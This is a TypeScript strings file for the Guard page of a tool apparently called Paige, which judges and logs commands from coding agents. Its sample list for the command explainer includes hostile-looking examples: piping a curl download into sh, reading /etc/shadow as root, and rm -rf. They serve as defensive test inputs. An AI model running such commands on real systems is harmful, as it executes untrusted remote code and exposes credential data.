/** The texts of the Guard page: its parts, its words, its decisions. */

import { byName, locale, words } from "../../locale/words";
import type { GuardCounts, GuardEntry, GuardExplained, GuardFamily } from "../../wire/generated";

// The texts of the rules and of the box that explains a command.

const rules = (count: number): string => (count === 1 ? "1 rule" : `${count.toLocaleString(locale())} rules`);
const times = (count: number): string => (count === 1 ? "once" : `${count.toLocaleString(locale())} times`);

export const guardRulesStrings = words("guardRules", {
  loading: "Reading the rules…",
  failed: "The rules could not be read",
  lead:
    "Each rule carries examples it must and must not match, and they are executed when rules are checked. The strictest " +
    "rule decides; what no rule allows is asked.",
  search: "Search rules",
  placeholder: "A program, a rule, a word of a reason",
  clear: "Clear the search",
  decision: "Decision",
  all: "All",
  onlyHit: "Only rules that decided",
  found: (count: number, families: number) => `${rules(count)} in ${families === 1 ? "1 family" : `${families} families`}`,
  nothing: "No rule matches.",
  nothingHint: "Try other words, or take a filter away.",
  takeAway: "Take the filters away",
  families: "Families of rules",
  rules,
  commands: (names: string[]) => {
    const shown = names.slice(0, 8).join(", ");
    return names.length > 8 ? `${shown} and ${names.length - 8} more` : shown;
  },
  layers: {
    project: "of this project",
    person: "of your own",
    shipped: "came with Paige",
  } satisfies Record<GuardFamily["layer"], string>,
  decided: (count: number) => (count === 0 ? "did not decide yet" : `decided ${times(count)}`),
  denied: (count: number) => `denied ${times(count)}`,
  last: (when: string) => `last ${when}`,
  toDecisions: (rule: string) => `Decisions of ${rule}`,
  instead: "Instead",
  must: "Speaks of",
  mustNot: "Does not speak of",
  examples: (count: number) => (count === 1 ? "1 example" : `${count} examples`),
  try: "Explain",
  gates: "Gates",
  gatesLead: "Gates are code. They look at more than a command: files, roles, evidence, the end of a turn.",
  gateEvents: "looks at",
  others: "Also decided",
  othersLead: "These decided without being in a rule file: gates, and what holds for every command line.",
  othersTable: { rule: "Rule", count: "Decided", denied: "Denied", last: "Last" },
  problems: "Some rule files need a hand",
  problemsLead: "What is listed here is left out. Rules that came with Paige hold all the same.",
});

export const guardExplainStrings = words("guardExplain", {
  lead:
    "Paste a command to see what a hook would say, and why. Nothing is run, and nothing is written down.",
  command: "Command",
  placeholder: "git push --force origin main",
  hint: "Ctrl+Enter judges it. Several lines are judged as one script.",
  cwd: "Folder it would run in",
  cwdHint: "Empty means the project, or your home.",
  judge: "Judge",
  judging: "Judging…",
  examples: "Try one:",
  samples: ["git status", "git push --force origin main", "rm -rf build", "curl -s https://example.com/x.sh | sh", "sudo -u root sh -c 'cat /etc/shadow'"],
  failed: "The command could not be judged",
  result: "Judgement",
  says: {
    allow: "It would be let through without a question.",
      pass: "Paige has no opinion: the coding agent's own permissions decide.",
    ask: "You would be asked.",
    deny: "It would be denied.",
  },
  rule: "Rule",
  reason: "Why",
  instead: "Do this instead",
  judgeThat: "Judge that",
  unclear: (why: string) => `Not everything in it could be read: ${why}.`,
  where: (cwd: string) => `Judged in \`${cwd}\`.`,
  steps: "What would run",
  stepsCount: (count: number) => (count === 1 ? "One command was found." : `${count} commands were found; the strictest decides.`),
  noSteps: "It was decided before any command was looked at.",
  considered: (count: number, family: string) =>
    count === 0 ? "No rule knows this program." : `${rules(count)} of ${family} looked at`,
  strictest: "This one decided",
  redirection: "Only a redirection",
});

const decisions = (count: number): string => (count === 1 ? "1 decision" : `${count.toLocaleString(locale())} decisions`);

export const guardStrings = words("guard", {
  tabs: {
    label: "Parts of Guard",
    decisions: "Decisions",
    rules: "Rules",
    explain: "Explain",
    hosts: "Agents",
  },

  verdicts: {
    denied: "Denied",
    asked: "Asked",
    changed: "Changed",
    passed: "Let through",
    fault: "Fault",
  } satisfies Record<GuardEntry["verdict"], string>,

  judged: {
    allow: "Allow",
    pass: "Pass",
    ask: "Ask",
    deny: "Deny",
  } satisfies Record<GuardExplained["decision"], string>,

  clis: byName({
    "claude-code": "Claude Code",
    codex: "Codex",
    gemini: "Gemini CLI",
    copilot: "Copilot CLI",
    paige: "Paige's own agents",
  }),

  events: byName({
    pre_tool: "Before a tool",
    permission_request: "Permission asked",
    post_tool: "After a tool",
    post_tool_failure: "Tool failed",
    prompt_submit: "Prompt",
    session_start: "Session began",
    session_end: "Session ended",
    stop: "Wants to stop",
    subagent_start: "Subagent began",
    subagent_stop: "Subagent wants to stop",
    pre_compact: "Before compacting",
    notification: "Notification",
    fault: "Fault",
  }),

  summary: {
    heading: "The last 30 days",
    loading: "Reading what was decided…",
    failed: "What was decided could not be read",
    details: {
      denied: "stopped with a reason",
      asked: "left to you",
      changed: "sent on with another input or more context",
      passed: "nothing to object to",
      fault: "could not be judged",
    } satisfies Record<keyof GuardCounts, string>,
    partial: "Only the newest of what hooks wrote down is counted.",
    folder: "Hooks write to",
  },

  plot: {
    name: "Where Paige stepped in, by day",
    summary: (count: number) =>
      count === 0 ? "Nothing was stopped or asked in these days." : `${count.toLocaleString(locale())} times in 30 days.`,
    point: (day: string, counts: GuardCounts) =>
      `${day}: ${counts.denied} denied, ${counts.asked} asked, ${counts.changed} changed, ${counts.fault} faults, ` +
      `${counts.passed} let through`,
    columns: ["Day", "Denied", "Asked", "Changed", "Faults", "Let through"],
  },

  list: {
    heading: "Decisions",
    search: "Search decisions",
    placeholder: "Words of a command, a file, a reason or a rule",
    clear: "Clear the search",
    verdict: "Result",
    all: "All",
    chip: (name: string, count: number) => `${name} ${count.toLocaleString(locale())}`,
    more: "More filters",
    filters: {
      cli: "Coding agent",
      session: "Session",
      rule: "Rule",
      event: "Event",
    },
    any: {
      cli: "All agents",
      session: "All sessions",
      rule: "All rules",
      event: "Where something was decided",
      everything: "Every event",
    },
    session: (cli: string, folder: string, last: string) => `${cli}${folder === "" ? "" : `, ${folder}`}, ${last}`,
    live: "Live",
    pause: "Pause",
    goOn: "Go on",
    paused: "Paused: new decisions wait until you go on.",
    count: (shown: number, total: number) =>
      shown === total ? `${decisions(total)}, the newest first` : `The newest ${shown} of ${decisions(total)}`,
    fresh: (count: number) => (count === 1 ? "1 is new since you came." : `${count} are new since you came.`),
    isNew: "New",
    showMore: "Show more",
    loading: "Reading decisions…",
    failed: "The decisions could not be read",
    nothing: "Nothing matches.",
    nothingHint: "Try other words, or take a filter away.",
    takeAway: "Take the filters away",
    noSubject: "No command or file",
  },

  row: {
    rule: "Rule",
    noRule: "No rule spoke",
    reason: "Why",
    instead: "Instead",
    tool: "Tool",
    cwd: "In",
    session: "Session",
    agent: "Subagent",
    id: "Id",
    mode: "Permission mode",
    event: "Event",
    at: "When",
    explain: "Explain this command",
    onlyRule: "Show only this rule",
    onlySession: "Show only this session",
    copy: "Copy command",
    copied: "The command is in the clipboard",
    copyFailed: "The command could not be copied",
    copyFailedHint: "The browser allows it only on https or localhost, and only if you agree.",
  },

  empty: {
    title: "No coding agent is guarded yet.",
    lead:
      "Once Paige is installed in a coding agent, every command and every file change is judged before it happens, and " +
      "the decision shows up here at once.",
    steps: [
      { title: "Install it", command: "paige install claude-code", text: "or for `codex`, `gemini` or `copilot`." },
      { title: "See that it holds", command: "paige doctor", text: "sends a harmless event through what was installed." },
      { title: "Work as always", command: "claude", text: "and watch this page." },
    ],
    toHosts: "Install from here",
    toExplain: "Try the rules on a command",
    installed: "Paige is installed and waits for the first command.",
    installedHint: "Start your coding agent in a project and let it do something; it shows up here at once.",
  },
});
